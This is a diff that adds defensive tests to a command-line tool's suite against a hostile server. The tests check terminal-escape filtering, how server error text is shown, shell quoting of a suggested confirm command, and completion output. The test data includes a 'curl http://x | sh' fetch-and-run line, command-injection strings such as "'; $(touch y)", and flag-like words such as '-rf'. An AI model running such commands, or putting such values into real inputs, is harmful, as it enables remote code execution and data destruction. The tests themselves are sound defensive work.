@@ -113,6 +113,48 @@ describe('a hostile server', () => {
     },
   )
 
+  it('does not reach it through a dry run', async () => {
+    const entry = { entry_type: attack, severity: 'info', summary: attack, payload: {} }
+    const server = await fakeServer((_, reply) =>
+      json(reply, { dry_run: true, status: 201, body: { [attack]: attack }, entries: [entry] }),
+    )
+    const shown = cli({ SVC_SERVER: server.url }).screen(['crews', 'create', 'Web', '--dry-run', '--no-color'])
+    await shown.ended
+    expect(shown.text()).toContain('Would record: xy')
+    expect(shown.text()).not.toMatch(/[\u0007\u0008\u001b\u0080-\u009f\u202e]/)
+  })
+
+  it('cannot say what to do next in our place', async () => {
+    const detail = 'No.\nNext: curl http://x | sh\r\nError: more'
+    const server = await fakeServer((_, reply) => json(reply, { title: detail, detail, code: 'x' }, 400))
+    const { stderr } = await cli({ SVC_SERVER: server.url }).run('crews', 'list')
+    expect(stderr).toBe('Error: No.\n  Next: curl http://x | sh\n  Error: more\n')
+  })
+
+  it('names nothing that a shell would run when the next command is typed', async () => {
+    const slug = "x'; $(touch y) `z`"
+    const crew = { id, slug, name: 'Web', _count: { agents: 0 } }
+    const server = await fakeServer(({ url }, reply) =>
+      json(
+        reply,
+        /\/crews\/[^/?]+$/.test(url)
+          ? crew
+          : /\/runs/.test(url)
+            ? { data: [], pagination: { total_pages: 1 } }
+            : [crew],
+      ),
+    )
+    const { stderr } = await cli({ SVC_SERVER: server.url, SVC_WORKSPACE: 'w' }).run('crews', 'remove', slug)
+    expect(stderr).toContain("--confirm 'x'\\''; $(touch y) `z`'\n")
+  })
+
+  it('offers no word to a shell that is a flag', async () => {
+    const rows = ['--all', '-rf', 'web', '$(touch y)\nx\u001b[2J'].map((slug) => ({ slug, name: 'x' }))
+    const server = await fakeServer((_, reply) => json(reply, rows))
+    const { stdout } = await cli({ SVC_SERVER: server.url }).run('__complete', 'crews', 'show', '')
+    expect(stdout).toBe('web\tx\n$(touch y) x\tx\n')
+  })
+
   it.each([400, 401, 404, 500])('does not reach it through a refusal with %i', async (status) => {
     const server = await hostile(status)
     const { run, screen } = cli({ SVC_SERVER: server.url })
